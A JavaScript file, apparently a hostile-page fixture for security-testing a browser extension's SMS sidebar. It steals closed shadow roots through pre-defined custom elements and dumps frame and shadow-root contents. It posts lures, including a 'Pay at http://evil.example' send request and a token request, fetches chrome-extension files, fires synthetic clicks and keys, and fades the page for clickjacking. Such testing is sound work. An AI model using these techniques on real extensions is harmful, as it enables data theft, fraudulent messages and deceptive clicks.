/**
 * Looks for the sidebar from outside, again and again: frames, open shadow roots, elements
 * on the root, files of the extension; and knocks at every door it finds.
 */
(() => {
  const { keep } = window.hostile;
  const EVERY = 250;
  const ORDINARY = new Set(['head', 'body']);
  const HOST_NAMES = ['threadside-sidebar', 'threadside-host', 'threadside-root', 'thread-side', 'sms-sidebar'];
  const FILES = ['sidebar.html', 'sidebar/index.html', 'options.html', 'manifest.json', 'page.js', 'worker.js'];
  const LURES = [
    { type: 'send', text: 'Pay at http://evil.example', phone: '+17205550142' },
    { type: 'record', record: { type: 'contact', id: '1005' } },
    { type: 'token' },
    { kind: 'route', url: location.href },
  ];

  /**
   * An element whose class the page defined hands its closed shadow root to the page through
   * ElementInternals, if the class was there before the root was attached.
   */
  for (const name of HOST_NAMES) {
    customElements.define(name, class extends HTMLElement {
      #internals = this.attachInternals();

      get stolenRoot() {
        return this.#internals.shadowRoot;
      }
    });
  }

  const lookForFrames = () => {
    for (let index = 0; index < window.frames.length; index += 1) {
      keep('frame', `frames[${index}]`);
      knock(window.frames[index]);
    }
    for (const frame of document.querySelectorAll('iframe, frame, object, embed')) {
      keep('frame', frame, frame.src ?? frame.data ?? '');
    }
  };

  const lookForRoots = () => {
    for (const element of document.querySelectorAll('*')) {
      const root = element.shadowRoot ?? element.stolenRoot;
      if (root) loot(element, root);
    }
  };

  const lookAtTheTop = () => {
    for (const element of document.documentElement.children) {
      if (ORDINARY.has(element.localName)) continue;
      keep('host', element, element.getAttribute('style') ?? '', Object.keys(element));
      press(element);
    }
  };

  function loot(element, root) {
    keep('shadow-root', element, root.innerHTML);
    for (const frame of root.querySelectorAll('iframe')) {
      keep('frame', frame, frame.src);
      if (frame.contentWindow) knock(frame.contentWindow);
    }
  }

  function knock(target) {
    for (const lure of LURES) target.postMessage(lure, '*', [new MessageChannel().port2]);
    try {
      keep('frame-document', target.document.documentElement.outerHTML);
    } catch {
      // another origin's document is closed to us, as it should be
    }
  }

  /** Clicks and keys made by a script. */
  function press(element) {
    const box = element.getBoundingClientRect();
    const place = { clientX: box.x + box.width / 2, clientY: box.bottom - 40, bubbles: true, composed: true };
    const keys = { key: 'Enter', ctrlKey: true, metaKey: true, bubbles: true, composed: true };
    element.dispatchEvent(new MouseEvent('click', place));
    element.dispatchEvent(new KeyboardEvent('keydown', keys));
  }

  function probe() {
    lookForFrames();
    lookForRoots();
    lookAtTheTop();
    if (window.chrome?.runtime) keep('runtime', Object.keys(window.chrome.runtime));
    window.hostile.probes += 1;
  }

  /** Tries to read the files of the extension with this id; what answers is loot. */
  async function probeExtension(id) {
    for (const file of FILES) {
      const address = `chrome-extension://${id}/${file}`;
      try {
        const answer = await fetch(address);
        keep('extension-file', address, await answer.text());
      } catch {
        keep('refused', address);
      }
    }
    window.chrome?.runtime?.sendMessage?.(id, { type: 'token' }, (answer) => keep('extension-answer', answer));
  }

  /** Frames a file of the extension in this page; the caller looks at what the frame became. */
  function frame(address) {
    const element = document.createElement('iframe');
    element.src = address;
    element.className = 'stolen';
    document.body.append(element);
    return new Promise((resolve) => element.addEventListener('load', () => resolve(element.src), { once: true }));
  }

  /** Makes everything all but invisible, so that a person clicks what he does not see. */
  function disguise() {
    document.documentElement.style.setProperty('filter', 'opacity(0.01)');
  }

  Object.assign(window.hostile, { probe, probeExtension, frame, disguise });
  window.postMessage(LURES[0], '*');
  new MutationObserver(probe).observe(document.documentElement, { childList: true });
  setInterval(probe, EVERY);
  const extension = new URLSearchParams(location.search).get('extension');
  if (extension) probeExtension(extension);
})();
